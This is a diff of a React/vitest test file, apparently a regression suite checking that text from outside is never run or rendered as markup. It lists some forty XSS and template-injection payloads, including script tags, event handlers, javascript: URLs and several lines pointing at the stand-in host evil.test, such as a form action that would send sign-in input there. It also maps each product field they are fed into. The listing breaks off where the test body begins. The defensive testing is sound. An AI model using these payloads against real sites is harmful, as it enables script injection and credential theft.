@@ -1,6 +1,66 @@
-import { describe, expect, it } from 'vitest';
-import { PAYLOADS } from './payloads.ts';
-import { SINKS } from './sinks.tsx';
+import { MantineProvider } from '@mantine/core';
+import { notifications } from '@mantine/notifications';
+import { act, fireEvent, render, screen } from '@testing-library/react';
+import { describe, expect, it, onTestFinished } from 'vitest';
+import { GUEST_SESSION, sessionFromStored } from '#machines/domain/session.ts';
+import type { JourneyEvent } from '#machines/journey/events.ts';
+import { ROUTES } from '#machines/journey/routes.ts';
+import { viewContract } from '#machines/journey/views/viewContract.ts';
+import { viewFrame } from '#machines/journey/views/viewFrame.ts';
+import { TopBar } from '#src/app/frame/TopBar.tsx';
+import { theme } from '#src/app/theme/theme.ts';
+import { ToastStack } from '#src/app/toasts/ToastStack.tsx';
+import { SIGN_IN } from '#src/content/signIn.ts';
+import { useJourney } from '#src/journey/hooks.ts';
+import { Review } from '#src/screens/contract/parts/Review.tsx';
+import { SigningForm } from '#src/screens/contract/parts/SigningForm.tsx';
+import { SignInScreen } from '#src/screens/signIn/SignInScreen.tsx';
+import { renderApp } from '#test/app/renderApp.tsx';
+import { renderScreen } from '#test/support/renderScreen.tsx';
+
+/** Texts that run a script, change the page or leave it where a text is taken for markup, an address or a template. */
+const PAYLOADS: readonly string[] = [
+  '<script>__pwned=1</script>',
+  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
+  '"><script>__pwned=1</script>',
+  "'><script>__pwned=1</script>",
+  '</title><script>__pwned=1</script>',
+  '</textarea><script>__pwned=1</script>',
+  '</style><script>__pwned=1</script>',
+  '--><script>__pwned=1</script><!--',
+  ']]><script>__pwned=1</script>',
+  '<scr<script>ipt>__pwned=1</scr</script>ipt>',
+  '<img src=x onerror=__pwned=1>',
+  '<img/src="x"/onerror="__pwned=1">',
+  '<img src=x onerror&#61;__pwned&#61;1>',
+  '"><img src=x onerror=__pwned=1>',
+  '<svg onload=__pwned=1>',
+  '<svg><script>__pwned=1</script></svg>',
+  '<svg><animate onbegin=__pwned=1 attributeName=x>',
+  '<svg><a xlink:href="javascript:__pwned=1"><text>x</text></a></svg>',
+  '<math><mtext><img src=x onerror=__pwned=1></mtext></math>',
+  '<body onload=__pwned=1>',
+  '<iframe src="javascript:__pwned=1"></iframe>',
+  '<iframe srcdoc="<script>parent.__pwned=1</script>">',
+  '<object data="javascript:__pwned=1">',
+  '<embed src="javascript:__pwned=1">',
+  '<details open ontoggle=__pwned=1>',
+  '<input autofocus onfocus=__pwned=1>',
+  '<video><source onerror=__pwned=1></video>',
+  '<base href="//evil.test/">',
+  '<meta http-equiv="refresh" content="0;url=//evil.test">',
+  '<link rel=stylesheet href="//evil.test/x.css">',
+  '<form action="//evil.test"><button>Sign in</button></form>',
+  '<a href="javascript:__pwned=1">x</a>',
+  '<template><script>__pwned=1</script></template>',
+  '<style>*{display:none}</style>',
+  'javascript:__pwned=1',
+  'data:text/html,<script>__pwned=1</script>',
+  '{{constructor.constructor("__pwned=1")()}}',
+  '${__pwned=1}',
+  '&lt;script&gt;__pwned=1&lt;/script&gt;',
+  '%3Cscript%3E__pwned=1%3C/script%3E',
+];
 
 const HARMLESS = 'Harmless words';
 const FIRST_VISIT_MS = 30_000;
@@ -19,6 +79,134 @@ function readable(): string {
   const fields = [...document.querySelectorAll('input, textarea')].map((field) => (field as HTMLInputElement).value);
   return [document.title, document.body.textContent, ...fields].join('\n');
 }
+
+/** Parts of the page are compiled on their first visit in a test run. */
+const FIRST_VISIT = { timeout: 20_000 };
+
+/** A place into which a text from outside comes. */
+type Sink = {
+  readonly name: string;
+  /** Opens the page that has the place; gives back how to put a text there. */
+  readonly open: () => Promise<(text: string) => void>;
+  /** Whether the text can then be read, as it is; otherwise it must not be on the page at all. */
+  readonly isShown: boolean;
+  /** Whether it takes no more than the name of a person, and so no two texts at once. */
+  readonly isShort?: boolean;
+};
+
+const storedUser = (name: string) => JSON.stringify({ email: 'a@b.example', name });
+const signedInAs = (user: string, isPatreonConnected = 'true'): JourneyEvent => ({
+  type: 'session.changedElsewhere',
+  session: sessionFromStored({ isAuthenticated: 'true', isPatreonConnected, user }, GUEST_SESSION),
+});
+
+/** The bar of the one who is signed in, and what is agreed to on the contract, signature included. */
+function Bar() {
+  const { homePath, userName } = useJourney(viewFrame);
+  return <TopBar homePath={homePath} userName={userName} />;
+}
+function Terms() {
+  const view = useJourney(viewContract);
+  return (
+    <>
+      <Review view={view} />
+      <SigningForm view={view} />
+    </>
+  );
+}
+
+/** A place of the contract that shows what was typed on the business form. */
+function inForm(name: string, event: (text: string) => JourneyEvent): Sink {
+  return {
+    name,
+    isShown: true,
+    open: async () => {
+      const { journey } = renderScreen(<Terms />, ROUTES.contract.path);
+      await journey.settle();
+      return (text) =>
+        act(() => {
+          journey.actor.send({ type: 'url.opened', path: ROUTES.entityDetails.path, hash: '' });
+          journey.actor.send(event(text));
+          journey.actor.send({ type: 'url.opened', path: ROUTES.contract.path, hash: '' });
+        });
+    },
+  };
+}
+
+/** Every place of the product into which a text comes that somebody else may have written. */
+const SINKS: readonly Sink[] = [
+  {
+    name: 'a message',
+    isShown: true,
+    open: async () => {
+      render(
+        <MantineProvider theme={theme} env="test">
+          <ToastStack />
+        </MantineProvider>,
+      );
+      onTestFinished(() => {
+        act(() => notifications.clean());
+      });
+      act(() => void notifications.show({ id: 'one', message: '', autoClose: false }));
+      return (text) =>
+        act(() => void notifications.update({ id: 'one', title: text, message: text, 'aria-label': text }));
+    },
+  },
+  {
+    name: 'the name of the stored user',
+    isShown: true,
+    isShort: true,
+    open: async () => {
+      const { journey, user } = renderScreen(<Bar />, ROUTES.selectPlatform.path);
+      await user.click(await screen.findByRole('button', { name: /^Account menu/ }, FIRST_VISIT));
+      await screen.findByRole('menu', { hidden: true }, FIRST_VISIT);
+      return (text) => journey.send(signedInAs(storedUser(text)));
+    },
+  },
+  {
+    name: 'the stored text of the user',
+    isShown: false,
+    open: async () => {
+      const { journey } = renderScreen(<SignInScreen />, ROUTES.signIn.path, { session: GUEST_SESSION });
+      return (text) => journey.send(signedInAs(text, text));
+    },
+  },
+  {
+    name: 'the e-mail address of who signs in',
+    isShown: true,
+    open: async () => {
+      renderScreen(<SignInScreen />, ROUTES.signIn.path, { session: GUEST_SESSION });
+      const field = screen.getByRole('textbox', { name: SIGN_IN.email });
+      return (text) => void fireEvent.change(field, { target: { value: text } });
+    },
+  },
+  inForm('the name of an owner', (name) => ({ type: 'business.ownerNameChanged', ownerId: 'owner-1', name })),
+  inForm('the address of the business', (value) => ({ type: 'business.fieldChanged', field: 'address', value })),
+  inForm('the name of an uploaded file', (name) => ({
+    type: 'business.documentChosen',
+    slot: 'taxReturn',
+    file: { id: 'file', name, sizeBytes: 9, mimeType: 'application/pdf', content: 'pdf' },
+  })),
+  {
+    name: 'the signature',
+    isShown: true,
+    open: async () => {
+      const { journey } = renderScreen(<Terms />, ROUTES.contract.path);
+      await journey.settle();
+      journey.send({ type: 'contract.agreementChanged', isAgreed: true, at: '2026-11-21T09:30:00+00:00' });
+      return (signature) => journey.send({ type: 'contract.signatureChanged', signature });
+    },
+  },
+  {
+    name: 'the address and the title of the page',
+    isShown: false,
+    open: async () => {
+      const { send } = renderApp('/nowhere');
+      await screen.findByRole('heading', { level: 1 }, FIRST_VISIT);
+      return (text) => send({ type: 'url.opened', path: `/${text}`, hash: `#${text}` });
+    },
+  },
+];
 
 describe('F-81 markup where a text is expected', () => {
   it.each(SINKS)(
